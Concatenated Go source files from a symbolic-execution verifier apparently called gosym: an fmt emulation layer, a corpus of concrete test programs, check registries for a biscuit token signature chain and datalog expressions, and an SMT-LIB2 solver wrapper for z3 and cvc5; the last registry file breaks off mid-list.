// are invoked through the interpreter (and their panics are swallowed exactly as fmt does).

import (
	"fmt"
	"go/types"
	"strings"
)

func (ex *Exec) sprintf(th *Thread, caller *frame, format Value, args []Value) Value {
	f, ok := format.(string)
	if !ok {
		// still evaluate operand methods for their effects
		for _, a := range args {
			ex.fmtArg(th, caller, 'v', "%v", a, 0)
		}
		return opaqueStr
	}
	var sb strings.Builder
	var pieces []Value
	opaque := false
	argi := 0
	for i := 0; i < len(f); i++ {
		if f[i] != '%' {
			sb.WriteByte(f[i])
			continue
		}
		j := i + 1
		for j < len(f) && strings.IndexByte("+-# 0123456789.", f[j]) >= 0 {
			j++
		}
		if j >= len(f) {
			sb.WriteString("%!(NOVERB)")
			break
		}
		verb := f[j]
		spec := f[i : j+1]
		i = j
		if verb == '%' {
			sb.WriteByte('%')
			continue
		}
		if argi >= len(args) {
			sb.WriteString("%!" + string(verb) + "(MISSING)")
			continue
		}
		a := args[argi]
		argi++
		if tv, ok := ex.fmtIntTemplate(verb, spec, a); ok {
			// symbolic integer under %d: keep the skeleton (template string)
			pieces = append(pieces, sb.String(), tv)
			sb.Reset()
			continue
		}
		s, conc := ex.fmtArg(th, caller, verb, spec, a, 0)
		if !conc {
			opaque = true
		}
		sb.WriteString(s)
	}
	if !opaque && len(pieces) > 0 {
		pieces = append(pieces, sb.String())
		var acc Value = ""
		for _, p := range pieces {
			acc = ex.strBinopAdd(acc, p)
		}
		return acc
	}
	if argi < len(args) {
		sb.WriteString("%!(EXTRA ...)")
		for _, a := range args[argi:] {
			if _, conc := ex.fmtArg(th, caller, 'v', "%v", a, 0); !conc {
				opaque = true
			}
		}
	}
	if opaque {
		return opaqueStr
	}
	return sb.String()
}

// callStringer invokes Error()/String() like fmt.handleMethods (panics are caught as fmt does).
func (ex *Exec) callStringer(th *Thread, caller *frame, itf Iface) (res Value, ok bool) {
	name := ""
	if ex.P.implements(itf.T, ex.P.errorType().Underlying().(*types.Interface)) {
		name = "Error"
	} else if m := ex.P.lookupMethodByName(itf.T, nil, "String"); m != nil && m.Signature.Params().Len() == 0 && m.Signature.Results().Len() == 1 && isStringType(m.Signature.Results().At(0).Type()) {
		name = "String"
	}
	if name == "" {
		return nil, false
	}
	m := ex.P.lookupMethodByName(itf.T, nil, name)
	depth := th.depth
	defer func() {
		if r := recover(); r != nil {
			if tp, is := r.(targetPanic); is {
				th.depth = depth
				// fmt: nil receiver -> "<nil>", otherwise %!v(PANIC=...)
				if p, isp := itf.V.(*Pointer); isp && p == nil {
					res, ok = "<nil>", true
					return
				}
				ex.swallowedPanics = append(ex.swallowedPanics, name+" method: "+ex.panicString(tp.v))
				res, ok = "%!v(PANIC="+name+" method: "+ex.panicString(tp.v)+")", true
				return
			}
			panic(r)
		}
	}()
	return ex.call(th, caller, m, []Value{itf.V}), true
}

func (ex *Exec) fmtArg(th *Thread, caller *frame, verb byte, spec string, a Value, depth int) (string, bool) {
	itf, isIface := a.(Iface)
	if !isIface {
		return fmt.Sprintf("%v", a), true
	}
	if itf.T == nil {
		if verb == 'v' || verb == 's' {
			return "<nil>", true
		}
		return "%!" + string(verb) + "(<nil>)", true
	}
	if verb == 'T' {
		return typeString(itf.T), true
	}
	if verb == 'w' {
		verb = 'v'
		spec = spec[:len(spec)-1] + "v"
	}
	sharp := strings.Contains(spec, "#")
	if strings.IndexByte("vsqxX", verb) >= 0 && !sharp {
		if s, ok := ex.callStringer(th, caller, itf); ok {
			str, conc := s.(string)
			if !conc {
				return "", false
			}
			return fmt.Sprintf(spec, str), true
		}
	}
	return ex.fmtValue(th, caller, verb, spec, itf.T, itf.V, depth)
}

func (ex *Exec) fmtValue(th *Thread, caller *frame, verb byte, spec string, t types.Type, v Value, depth int) (string, bool) {
	if depth > 6 {
		return "...", true
	}
	switch ut := t.Underlying().(type) {
	case *types.Basic:
		switch x := v.(type) {
		case *Term, *SymStr:
			return "", false
		case uint64:
			w, signed, _ := intWidth(t)
			if signed {
				return fmt.Sprintf(spec, sext64(x, w)), true
			}
			if ut.Kind() == types.Uint8 {
				return fmt.Sprintf(spec, uint8(x)), true
			}
			return fmt.Sprintf(spec, x), true
		case bool, string, float64:
			return fmt.Sprintf(spec, x), true
		}
		return fmt.Sprintf("%v", v), true
	case *types.Pointer:
		p, _ := v.(*Pointer)
		if p == nil {
			return "<nil>", true
		}
		if depth == 0 {
			if _, ok := ut.Elem().Underlying().(*types.Struct); ok && verb == 'v' {
				s, c := ex.fmtValue(th, caller, verb, spec, ut.Elem(), p.load(), depth+1)
				return "&" + s, c
			}
		}
		return "0xc000012345", true
	case *types.Slice, *types.Array:
		var elems []Value
		var et types.Type
		if st, ok := ut.(*types.Slice); ok {
			s := v.(Slice)
			et = st.Elem()
			if s.base == nil && verb == 'v' && strings.Contains(spec, "#") {
				return typeString(t) + "(nil)", true
			}
			if s.base != nil {
				elems = s.elems()[s.off : s.off+s.len]
			}
		} else {
			et = ut.(*types.Array).Elem()
			elems = v.(ArrayV).e
		}
		if b, ok := et.Underlying().(*types.Basic); ok && b.Kind() == types.Uint8 && strings.IndexByte("sqxX", verb) >= 0 {
			bs := make([]byte, len(elems))
			for i, e := range elems {
				c, ok := e.(uint64)
				if !ok {
					return "", false
				}
				bs[i] = byte(c)
			}
			return fmt.Sprintf(spec, bs), true
		}
		parts := make([]string, len(elems))
		conc := true
		for i, e := range elems {
			var s string
			var c bool
			if isInterface(et) {
				s, c = ex.fmtArg(th, caller, verb, spec, e, depth+1)
			} else {
				s, c = ex.fmtArg(th, caller, verb, spec, Iface{T: et, V: e}, depth+1)
			}
			if !c {
				conc = false
			}
			parts[i] = s
		}
		if !conc {
			return "", false
		}
		return "[" + strings.Join(parts, " ") + "]", true
	case *types.Struct:
		s := v.(StructV)
		parts := make([]string, len(s.f))
		conc := true
		for i := range s.f {
			ft := ut.Field(i).Type()
			var str string
			var c bool
			// fmt does not call methods on unexported fields; approximate by plain formatting
			if isInterface(ft) {
				fi := s.f[i].(Iface)
				if fi.T == nil {
					str, c = "<nil>", true
				} else {
					str, c = ex.fmtValue(th, caller, verb, "%v", fi.T, fi.V, depth+1)
				}
			} else {
				str, c = ex.fmtValue(th, caller, verb, "%v", ft, s.f[i], depth+1)
			}
			if !c {
				conc = false
			}
			if strings.Contains(spec, "+") {
				str = ut.Field(i).Name() + ":" + str
			}
			parts[i] = str
		}
		if !conc {
			return "", false
		}
		return "{" + strings.Join(parts, " ") + "}", true
	case *types.Map:
		m, _ := v.(*MapV)
		if m == nil {
			return "map[]", true
		}
		return fmt.Sprintf("map[%d entries]", len(m.entries)), true
	case *types.Interface:
		return ex.fmtArg(th, caller, verb, spec, v, depth+1)
	case *types.Signature:
		return "0xfunc", true
	case *types.Chan:
		return "0xchan", true
	}
	return fmt.Sprintf("%v", v), true
}
