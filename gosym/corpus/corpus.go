// Package corpus holds small concrete programs executed both natively and by the symbolic
// interpreter; the self-test compares what they record in Out.
package corpus

import (
	"errors"
	"fmt"
	"sort"
	"strings"
)

var Out []string

func obs(tag string, v interface{}) { Out = append(Out, fmt.Sprintf("%s=%v", tag, v)) }

type shape interface {
	Area() int
	Name() string
}

type rect struct{ w, h int }
type square struct{ s int }

func (r rect) Area() int     { return r.w * r.h }
func (r rect) Name() string  { return "rect" }
func (s *square) Area() int  { return s.s * s.s }
func (s *square) Name() string { return "square" }

type pair struct {
	a int
	b []int
	c [2]int
}

var errBoom = errors.New("boom")

func mayPanic(k int) (res string) {
	defer func() {
		if r := recover(); r != nil {
			res = fmt.Sprintf("recovered:%v", r)
		}
	}()
	switch k {
	case 0:
		var a []int
		_ = a[3]
	case 1:
		var m map[string]int
		m["x"] = 1
	case 2:
		var p *pair
		_ = p.a
	case 3:
		var i interface{} = "s"
		_ = i.(int)
	case 4:
		m := map[interface{}]int{}
		m[[]byte{1}] = 1
	case 5:
		x := 0
		_ = 10 / x
	case 6:
		panic(errBoom)
	case 7:
		a := []int{1, 2, 3}
		_ = a[1:5]
	}
	return "no panic"
}

func Arith() {
	var a int8 = 127
	a++
	obs("int8wrap", a)
	var u uint8 = 0
	u--
	obs("uint8wrap", u)
	var x int64 = -9223372036854775808
	obs("minneg", -x)
	obs("mindiv", x/-1)
	obs("minrem", x%-1)
	obs("shl", uint32(1)<<31)
	one32, forty := uint32(1), uint(40)
	obs("shlbig", one32<<forty)
	obs("sar", int32(-8)>>1)
	obs("shr", uint32(0x80000000)>>31)
	obs("andnot", 0xff&^0x0f)
	i300, im1, im2, k := int64(300), int8(-1), int32(-2), int32(65536)
	obs("conv1", int8(i300))
	obs("conv2", uint64(im1))
	obs("conv3", int64(uint32(0xffffffff)))
	obs("conv4", uint16(im2))
	obs("mul", k*k)
	obs("rem", -7%3)
	obs("quo", -7/2)
	var f float64 = 2.5
	obs("float", int(f*2))
}

func Slices() {
	var s []int
	caps := []int{}
	for i := 0; i < 20; i++ {
		s = append(s, i)
		caps = append(caps, cap(s))
	}
	obs("caps", caps)
	b := []byte{}
	bc := []int{}
	for i := 0; i < 40; i++ {
		b = append(b, byte(i))
		bc = append(bc, cap(b))
	}
	obs("bytecaps", bc)
	var strs []string
	sc := []int{}
	for i := 0; i < 12; i++ {
		strs = append(strs, "x")
		sc = append(sc, cap(strs))
	}
	obs("strcaps", sc)
	// aliasing through spare capacity
	base := make([]int, 3, 8)
	x := append(base, 1)
	y := append(base, 2)
	obs("alias", x[3])
	obs("alias2", y[3])
	z := append(base[:1:1], 9)
	z[0] = 7
	obs("noalias", base[0])
	c := make([]int, 2)
	n := copy(c, []int{4, 5, 6})
	obs("copy", fmt.Sprint(n, c))
	t := s[2:5:7]
	obs("slice3", fmt.Sprint(len(t), cap(t), t))
	arr := [4]int{1, 2, 3, 4}
	sl := arr[1:3]
	sl[0] = 20
	obs("arrslice", arr)
	arr2 := arr
	arr2[0] = 99
	obs("arrcopy", arr[0])
	bs := []byte("héllo")
	obs("bytes", len(bs))
	obs("str", string(bs[1:3]))
	rs := []rune("héllo")
	obs("runes", len(rs))
	big := append([]int(nil), make([]int, 300)...)
	big = append(big, 1)
	obs("bigcap", cap(big))
}

func Maps() {
	m := map[string]int{}
	m["a"] = 1
	m["b"] = 2
	m["a"] += 10
	delete(m, "b")
	v, ok := m["b"]
	obs("missing", fmt.Sprint(v, ok))
	obs("len", len(m))
	keys := []string{}
	m["c"], m["d"] = 3, 4
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	obs("keys", keys)
	type key struct {
		a int
		b string
	}
	sm := map[key]bool{{1, "x"}: true}
	obs("structkey", sm[key{1, "x"}])
	im := map[interface{}]int{1: 1, "1": 2, int64(1): 3}
	obs("ifacekey", fmt.Sprint(im[1], im["1"], im[int64(1)], len(im)))
	var nilm map[string]int
	obs("nilmap", nilm["x"])
	pm := map[string]*pair{"p": {a: 1}}
	pm["p"].a++
	obs("ptrval", pm["p"].a)
}

func Structs() {
	p := pair{a: 1, b: []int{1}, c: [2]int{1, 2}}
	q := p
	q.a = 2
	q.b[0] = 5
	q.c[0] = 9
	obs("copy", fmt.Sprint(p.a, p.b[0], p.c[0]))
	pp := &p
	pp.c[1] = 7
	obs("ptr", p.c[1])
	ps := []pair{p, q}
	ps[0].a = 40
	obs("sliceelem", fmt.Sprint(ps[0].a, p.a))
	obs("eq", p.c == [2]int{1, 7} || [2]int{1, 2} == [2]int{1, 2})
	type inner struct{ x, y int }
	type outer struct {
		inner
		z int
	}
	o := outer{inner{1, 2}, 3}
	o.x = 10
	obs("embed", o.inner.x+o.z)
}

func Interfaces() {
	shapes := []shape{rect{2, 3}, &square{4}}
	total := 0
	names := []string{}
	for _, s := range shapes {
		total += s.Area()
		names = append(names, s.Name())
	}
	obs("total", total)
	obs("names", strings.Join(names, ","))
	var i interface{} = rect{1, 1}
	switch v := i.(type) {
	case *square:
		obs("ts", "square")
	case rect:
		obs("ts", v.Area())
	}
	_, isShape := i.(shape)
	obs("assert", isShape)
	var e error
	obs("nilerr", e == nil)
	e = errBoom
	wrapped := fmt.Errorf("wrap: %w", e)
	obs("is", errors.Is(wrapped, errBoom))
	obs("msg", wrapped.Error())
	f := shapes[0].Area
	obs("methodvalue", f())
	var s2 shape = rect{1, 2}
	obs("ifaceeq", s2 == shape(rect{1, 2}))
}

func Panics() {
	for k := 0; k < 9; k++ {
		obs(fmt.Sprint("panic", k), mayPanic(k))
	}
	func() {
		defer func() { obs("defer1", 1) }()
		defer func() { obs("defer2", 2) }()
	}()
	r := func() (x int) {
		defer func() { x *= 2 }()
		return 21
	}()
	obs("namedresult", r)
}

func Closures() {
	acc := 0
	add := func(n int) { acc += n }
	for i := 0; i < 4; i++ {
		add(i)
	}
	obs("acc", acc)
	var fs []func() int
	for i := 0; i < 3; i++ {
		i := i
		fs = append(fs, func() int { return i * i })
	}
	sum := 0
	for _, f := range fs {
		sum += f()
	}
	obs("sum", sum)
	gen := func() func() int {
		c := 0
		return func() int { c++; return c }
	}()
	gen()
	obs("gen", gen())
}

func Concurrency() {
	c := make(chan int)
	done := make(chan struct{})
	go func() {
		defer close(c)
		for i := 0; i < 3; i++ {
			c <- i
		}
	}()
	sum := 0
	for v := range c {
		sum += v
	}
	obs("sum", sum)
	_, ok := <-c
	obs("closed", ok)
	bc := make(chan int, 2)
	bc <- 1
	bc <- 2
	select {
	case bc <- 3:
		obs("buffered", "sent")
	default:
		obs("buffered", "full")
	}
	go func() { done <- struct{}{} }()
	select {
	case <-done:
		obs("select", "done")
	}
	res := make(chan error)
	go func() { res <- errBoom }()
	obs("err", <-res == errBoom)
}

func Strings() {
	s := "héllo, wörld"
	obs("len", len(s))
	cnt := 0
	last := rune(0)
	for _, r := range s {
		cnt++
		last = r
	}
	obs("runes", fmt.Sprint(cnt, last))
	obs("index", s[1])
	obs("cmp", "abc" < "abd")
	obs("concat", s[:2]+"|"+s[len(s)-1:])
	obs("contains", strings.Contains(s, "wör"))
	obs("prefix", strings.HasPrefix(s, "hé"))
	obs("join", strings.Join([]string{"a", "b"}, "-"))
	obs("fmt", fmt.Sprintf("%d|%s|%v|%q|%x|%t|%5d|%+q", 42, "s", []int{1, 2}, "q", []byte{1, 171}, true, 7, []string{"a"}))
	obs("fmtstruct", fmt.Sprintf("%v %+v", rect{1, 2}, rect{1, 2}))
	obs("conv", string(rune(65)))
}

// All runs every program.
func All() {
	Arith()
	Slices()
	Maps()
	Structs()
	Interfaces()
	Panics()
	Closures()
	Concurrency()
	Strings()
}
