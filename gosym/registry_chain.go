package main

func init() {
	checks = append(checks, &CheckSpec{
		Prop:    "C01",
		Harness: []string{"c01_chain.go"},
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC01Chain", Quick: p("blocks", 1), Thorough: p("blocks", 2), Covers: []string{"accepted", "rejected"}, Solver: "z3-new"},
			{Pkg: "biscuit", Func: "VerifC01Honest", Quick: p("blocks", 1), Thorough: p("blocks", 2), Covers: []string{"done"}, Solver: "cvc5"},
		},
		Assumptions: append([]string{
			"presented containers: 0..N+1 blocks after the authority (N = 1 quick / 2 thorough honest blocks); at every position the block bytes are any honest block, the announced key any honest key / attacker key / arbitrary 32 bytes, the algorithm Ed25519 or any int32, the signature any honest signature / a signature by any secret any party holds (root, attacker, every prefix's next secret) over exactly the placed fields / arbitrary 64 bytes; proof: any known or arbitrary next secret, any such seal signature, or absent; verifier key: honest root, attacker, arbitrary",
			"selectors for keys, signatures, secrets are symbolic (decided by the solver); all key/seed/junk material is symbolic 256/512-bit",
			"byte-level mutations that do not decode to a schema-valid message are outside (protobuf decoder trusted); forgery resistance of ed25519 itself is trusted",
		}, stdAssumptions...),
		Models:      []string{modelSig, modelCodec},
		Explanation: "the verifier (Unmarshal + authorizerFor/AuthorizerFor/Authorizer) is executed on a symbolic container and its verdict compared with a structural specification of the chain written over the same ideal signature predicate",
		LevelText:   "Bounded symbolic model checking of signature-chain verification: for every container within the bounds, acceptance under key K holds iff the authority is signed by K over block||alg||nextKey, every later block by the previously announced key, and the proof matches the last announced key (secret's public key, or seal signature over the last placed block); rejection returns no authorizer; tokens built/attenuated/sealed/reloaded by the library are accepted under their root and rejected under another.",
		LevelNote:   "Ideal signature model (deterministic, unforgeable, PUB invertible on its image); ideal codec; block contents irrelevant to the chain and fixed. Bounds N<=1/2.",
		DesignRef:   "DESIGN.md §6 C01",
	})
}
