package main

// One persistent SMT solver process, SMT-LIB2 over pipes.

import (
	"bufio"
	"fmt"
	"io"
	"math/big"
	"os/exec"
	"strings"
	"time"
)

type SatResult int

const (
	Sat SatResult = iota
	Unsat
	Unknown
)

func (r SatResult) String() string { return [...]string{"sat", "unsat", "unknown"}[r] }

type Solver struct {
	kind    string // "z3", "z3-new", "cvc5"
	cmd     *exec.Cmd
	in      io.WriteCloser
	out     *bufio.Reader
	ts      *TermStore
	sent    map[int]bool
	ufSent  map[string]bool
	depth   int
	timeout int // ms
	log     io.Writer
	// statistics
	Queries   int
	NSat      int
	NUnsat    int
	NUnknown  int // undecided after the retry
	Retries   int // queries that timed out once and were retried with a larger budget
	SolveTime time.Duration
	errors    []string
	lastSat   bool
	nsync     int
	dead      bool
}

func NewSolver(kind string, ts *TermStore, timeoutMs int) (*Solver, error) {
	var cmd *exec.Cmd
	switch kind {
	case "z3":
		cmd = exec.Command("z3", "-in", "-smt2")
	case "z3-new":
		cmd = exec.Command("z3-new", "-in", "-smt2")
	case "cvc5":
		cmd = exec.Command("cvc5", "--incremental", "--produce-models", "--lang=smt2", fmt.Sprintf("--tlimit-per=%d", timeoutMs))
	case "cvc5-minisat":
		cmd = exec.Command("cvc5", "--incremental", "--produce-models", "--lang=smt2", "--bv-sat-solver=minisat", fmt.Sprintf("--tlimit-per=%d", timeoutMs))
		kind = "cvc5"
	default:
		return nil, fmt.Errorf("unknown solver %q", kind)
	}
	in, err := cmd.StdinPipe()
	if err != nil {
		return nil, err
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		return nil, err
	}
	cmd.Stderr = cmd.Stdout
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	s := &Solver{kind: kind, cmd: cmd, in: in, out: bufio.NewReaderSize(out, 1<<16), ts: ts, sent: map[int]bool{}, ufSent: map[string]bool{}, timeout: timeoutMs}
	if kind == "cvc5" {
		s.send("(set-option :global-declarations true)")
		s.send("(set-logic ALL)")
	} else {
		s.send("(set-option :global-declarations true)")
		s.send("(set-option :produce-models true)")
		s.send(fmt.Sprintf("(set-option :timeout %d)", timeoutMs))
	}
	return s, nil
}

func (s *Solver) Close() {
	if s.cmd != nil {
		s.in.Close()
		s.cmd.Process.Kill()
		if !s.dead {
			s.cmd.Wait()
		}
		s.cmd = nil
	}
}

func (s *Solver) send(line string) {
	if s.log != nil {
		fmt.Fprintln(s.log, line)
	}
	io.WriteString(s.in, line)
	io.WriteString(s.in, "\n")
}

// define makes sure the term (and its sub-terms) are declared/defined in the solver.
func (s *Solver) define(t *Term) {
	if s.sent[t.id] {
		return
	}
	// iterative post-order to avoid deep recursion
	type fr struct {
		t *Term
		i int
	}
	stack := []fr{{t, 0}}
	for len(stack) > 0 {
		f := &stack[len(stack)-1]
		if s.sent[f.t.id] {
			stack = stack[:len(stack)-1]
			continue
		}
		if f.i < len(f.t.args) {
			a := f.t.args[f.i]
			f.i++
			if !s.sent[a.id] {
				stack = append(stack, fr{a, 0})
			}
			continue
		}
		tt := f.t
		stack = stack[:len(stack)-1]
		switch tt.op {
		case TConst:
		case TVar:
			s.send(fmt.Sprintf("(declare-const %s %s)", smtName(tt), sortStr(tt.w)))
		case TUF:
			if !s.ufSent[tt.name] {
				sig := s.ts.ufs[tt.name]
				var as []string
				for _, w := range sig.argw {
					as = append(as, sortStr(w))
				}
				s.send(fmt.Sprintf("(declare-fun |%s| (%s) %s)", tt.name, strings.Join(as, " "), sortStr(sig.resw)))
				s.ufSent[tt.name] = true
			}
			s.send(fmt.Sprintf("(define-fun t%d () %s %s)", tt.id, sortStr(tt.w), tt.body()))
		default:
			s.send(fmt.Sprintf("(define-fun t%d () %s %s)", tt.id, sortStr(tt.w), tt.body()))
		}
		s.sent[tt.id] = true
	}
}

func (s *Solver) Push() {
	s.send("(push 1)")
	s.depth++
}

func (s *Solver) Pop() {
	s.send("(pop 1)")
	s.depth--
}

func (s *Solver) PopTo(d int) {
	for s.depth > d {
		s.Pop()
	}
}

func (s *Solver) Assert(t *Term) {
	s.define(t)
	s.send(fmt.Sprintf("(assert %s)", smtName(t)))
}

func (s *Solver) readLine() (string, error) {
	for {
		line, err := s.out.ReadString('\n')
		if err != nil {
			return "", err
		}
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		return line, nil
	}
}

// sync sends an echo marker and returns all output lines produced before it.
func (s *Solver) sync() ([]string, error) {
	s.nsync++
	marker := fmt.Sprintf("gosym-sync-%d", s.nsync)
	s.send("(echo \"" + marker + "\")")
	var lines []string
	for {
		line, err := s.readLine()
		if err != nil {
			return lines, err
		}
		if strings.Contains(line, marker) {
			return lines, nil
		}
		lines = append(lines, line)
	}
}

// Check decides the current assertions. A timeout is retried once with six times the budget (a loaded
// machine must not turn a decidable query into "unknown"); only then is it reported as unknown.
func (s *Solver) Check() SatResult {
	r := s.check1()
	if r == Unknown && !s.dead && s.timeout > 0 && (s.kind == "z3" || s.kind == "z3-new") && len(s.errors) == 0 {
		s.send(fmt.Sprintf("(set-option :timeout %d)", 6*s.timeout))
		s.Retries++
		s.NUnknown-- // counted again by the retry if it stays undecided
		s.Queries--
		r = s.check1()
		s.send(fmt.Sprintf("(set-option :timeout %d)", s.timeout))
	}
	return r
}

func (s *Solver) check1() SatResult {
	t0 := time.Now()
	s.send("(check-sat)")
	s.Queries++
	res := Unknown
	lines, err := s.sync()
	if err != nil {
		werr := ""
		if s.cmd != nil && !s.dead {
			s.dead = true
			if e := s.cmd.Wait(); e != nil {
				werr = e.Error()
			}
		}
		s.errors = append(s.errors, "solver died: "+err.Error()+" "+werr+" last output: "+strings.Join(lines, " / "))
	}
	sawErr := false
	for _, line := range lines {
		switch {
		case line == "sat":
			res = Sat
		case line == "unsat":
			res = Unsat
		case line == "unknown" || line == "timeout":
			res = Unknown
		case strings.HasPrefix(line, "(error"):
			sawErr = true
			if len(s.errors) < 50 {
				s.errors = append(s.errors, line)
			}
		}
	}
	if sawErr {
		res = Unknown // an earlier command failed: the answer cannot be trusted
	}
	s.SolveTime += time.Since(t0)
	switch res {
	case Sat:
		s.NSat++
	case Unsat:
		s.NUnsat++
	default:
		s.NUnknown++
	}
	return res
}

// CheckWith checks satisfiability of the current assertions plus extra.
func (s *Solver) CheckWith(extra ...*Term) SatResult {
	for _, e := range extra {
		s.define(e)
	}
	s.Push()
	for _, e := range extra {
		s.send(fmt.Sprintf("(assert %s)", smtName(e)))
	}
	r := s.Check()
	s.lastSat = r == Sat
	return r
}

// Model values for the given variables; must be called right after a sat CheckWith (before EndCheck).
func (s *Solver) GetModel(vars []*Term) (Model, error) {
	m := Model{}
	if len(vars) == 0 {
		return m, nil
	}
	const chunk = 200
	for i := 0; i < len(vars); i += chunk {
		j := i + chunk
		if j > len(vars) {
			j = len(vars)
		}
		var names []string
		for _, v := range vars[i:j] {
			s.define(v)
			names = append(names, smtName(v))
		}
		s.send("(get-value (" + strings.Join(names, " ") + "))")
		ls, err := s.sync()
		if err != nil {
			return nil, err
		}
		txt := strings.Join(ls, "\n")
		if strings.Contains(txt, "(error") {
			return nil, fmt.Errorf("get-value: %s", txt)
		}
		if err := parseValues(txt, m); err != nil {
			return nil, err
		}
	}
	return m, nil
}

// GetValues evaluates arbitrary terms in the current model (after sat).
func (s *Solver) GetValues(terms []*Term) ([]*big.Int, error) {
	var res []*big.Int
	for _, t := range terms {
		if t.IsConst() {
			res = append(res, s.ts.bigOf(t))
			continue
		}
		s.define(t)
		s.send("(get-value (" + smtName(t) + "))")
		ls, err := s.sync()
		if err != nil {
			return nil, err
		}
		txt := strings.Join(ls, "\n")
		if strings.Contains(txt, "(error") {
			return nil, fmt.Errorf("get-value: %s", txt)
		}
		// ((name value))
		txt = strings.TrimSpace(txt)
		txt = strings.TrimPrefix(txt, "((")
		txt = strings.TrimSuffix(txt, "))")
		idx := strings.LastIndexAny(txt, " \t\n")
		valS := txt
		if strings.HasSuffix(txt, ")") { // (_ bvN w)
			k := strings.LastIndex(txt, "(_ bv")
			if k >= 0 {
				valS = txt[k:]
			}
		} else if idx >= 0 {
			valS = txt[idx+1:]
		}
		v, ok := parseValue(valS)
		if !ok {
			return nil, fmt.Errorf("cannot parse value %q", txt)
		}
		res = append(res, v)
	}
	return res, nil
}

func (s *Solver) EndCheck() { s.Pop() }

func (s *Solver) readSexpr() (string, error) {
	var sb strings.Builder
	depth := 0
	started := false
	inBar := false
	for {
		c, err := s.out.ReadByte()
		if err != nil {
			return sb.String(), err
		}
		if !started {
			if c == ' ' || c == '\n' || c == '\r' || c == '\t' {
				continue
			}
			started = true
			if c != '(' {
				// atom line
				sb.WriteByte(c)
				rest, _ := s.out.ReadString('\n')
				sb.WriteString(rest)
				return strings.TrimSpace(sb.String()), nil
			}
		}
		sb.WriteByte(c)
		if c == '|' {
			inBar = !inBar
		}
		if inBar {
			continue
		}
		if c == '(' {
			depth++
		} else if c == ')' {
			depth--
			if depth == 0 {
				return sb.String(), nil
			}
		}
	}
}

func parseValue(v string) (*big.Int, bool) {
	v = strings.TrimSpace(v)
	switch {
	case v == "true":
		return big.NewInt(1), true
	case v == "false":
		return big.NewInt(0), true
	case strings.HasPrefix(v, "#x"):
		return new(big.Int).SetString(v[2:], 16)
	case strings.HasPrefix(v, "#b"):
		return new(big.Int).SetString(v[2:], 2)
	case strings.HasPrefix(v, "(_ bv"):
		f := strings.Fields(v[5:])
		return new(big.Int).SetString(f[0], 10)
	}
	return nil, false
}

// parseValues parses "((|a| #x01) (|b| true) ...)" into m.
func parseValues(txt string, m Model) error {
	i := 0
	n := len(txt)
	skip := func() {
		for i < n && (txt[i] == ' ' || txt[i] == '\n' || txt[i] == '\t' || txt[i] == '\r') {
			i++
		}
	}
	skip()
	if i >= n || txt[i] != '(' {
		return fmt.Errorf("bad get-value response: %q", txt)
	}
	i++
	for {
		skip()
		if i >= n {
			return fmt.Errorf("truncated get-value response")
		}
		if txt[i] == ')' {
			return nil
		}
		if txt[i] != '(' {
			return fmt.Errorf("bad pair in %q", txt)
		}
		i++
		skip()
		var name string
		if txt[i] == '|' {
			j := strings.IndexByte(txt[i+1:], '|')
			name = txt[i+1 : i+1+j]
			i = i + 1 + j + 1
		} else {
			j := i
			for j < n && txt[j] != ' ' && txt[j] != '\n' {
				j++
			}
			name = txt[i:j]
			i = j
		}
		skip()
		var val string
		if txt[i] == '(' {
			j := strings.IndexByte(txt[i:], ')')
			val = txt[i : i+j+1]
			i = i + j + 1
		} else {
			j := i
			for j < n && txt[j] != ')' && txt[j] != ' ' && txt[j] != '\n' {
				j++
			}
			val = txt[i:j]
			i = j
		}
		v, ok := parseValue(val)
		if !ok {
			return fmt.Errorf("cannot parse value %q for %s", val, name)
		}
		m[name] = v
		skip()
		if i < n && txt[i] == ')' {
			i++
		}
	}
}
