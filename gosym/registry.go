package main

// The registered checks: harness files, entries, bounds per tier, required cover points.

var stdAssumptions = []string{
	"gosym interprets go/ssa of the current /repo tree faithfully (validated per run by native concolic replay of sampled paths and by the engine self-tests)",
	"SMT solver verdicts (z3 5.1.0 / cvc5 1.0) are correct; unknown/timeout/error is never counted as discharged",
	"fmt/strings/sort/hex/time formatting are called natively on concrete data and yield opaque strings on symbolic data; error texts are never part of an oracle",
}

var modelSig = "ideal signature scheme: PUB/SIG_n/INV uninterpreted with INV(PUB(s))=s; ed25519 length panics kept; real ed25519 trusted and used in native replay"
var modelCodec = "ideal lossless protobuf codec at message level (Marshal checks required fields from struct tags unless AllowPartial; Unmarshal applies the required-field check as measured on protobuf-go 1.34.2, i.e. not below a oneof member other than the first; enum values pass through; decoded byte fields get fresh buffers with spare capacity, repeated fields the capacity of one-at-a-time append); protobuf-go byte decoder trusted"
var modelBig = "math/big NewInt/Add/Sub/Mul/IsInt64/Int64 as exact 128-bit bit-vector arithmetic on int64-range operands"
var modelCtx = "context.WithTimeout replaced by a context whose Done channel fires at a nondeterministic monotone moment (or never, where stated)"

func p(kv ...interface{}) map[string]int {
	m := map[string]int{}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i].(string)] = kv[i+1].(int)
	}
	return m
}

var checks = []*CheckSpec{
	{
		Prop:    "C06",
		Harness: []string{"c06_expr.go", "c06_edges.go"},
		Entries: []EntrySpec{
			{Pkg: "datalog", Func: "VerifC06Binary", Quick: p(), Thorough: p(), Covers: []string{"evaluated", "error", "value"}},
			{Pkg: "datalog", Func: "VerifC06Unary", Quick: p(), Thorough: p(), Covers: []string{"evaluated"}},
			// sets written with repeated elements ([1, 1] is accepted by parser, builders and decoder and denotes {1})
			{Pkg: "datalog", Func: "VerifC06Binary", Quick: p("dupsets", 1), Thorough: p("dupsets", 1), Covers: []string{"evaluated", "error", "value"}},
			{Pkg: "datalog", Func: "VerifC06Unary", Quick: p("dupsets", 1), Thorough: p("dupsets", 1), Covers: []string{"evaluated"}},
			{Pkg: "datalog", Func: "VerifC06Strings", Quick: p("strlen", 2), Thorough: p("strlen", 3), Covers: []string{"evaluated"}},
			{Pkg: "datalog", Func: "VerifC06StrIndex", Quick: p(), Thorough: p(), Covers: []string{"evaluated"}},
			{Pkg: "datalog", Func: "VerifC06Sequence", Quick: p("len", 2), Thorough: p("len", 3), Covers: []string{"evaluated"}},
			{Pkg: "datalog", Func: "VerifC06Stack", Quick: p("pushes", 1001), Thorough: p("pushes", 1001), Covers: []string{"evaluated"}},
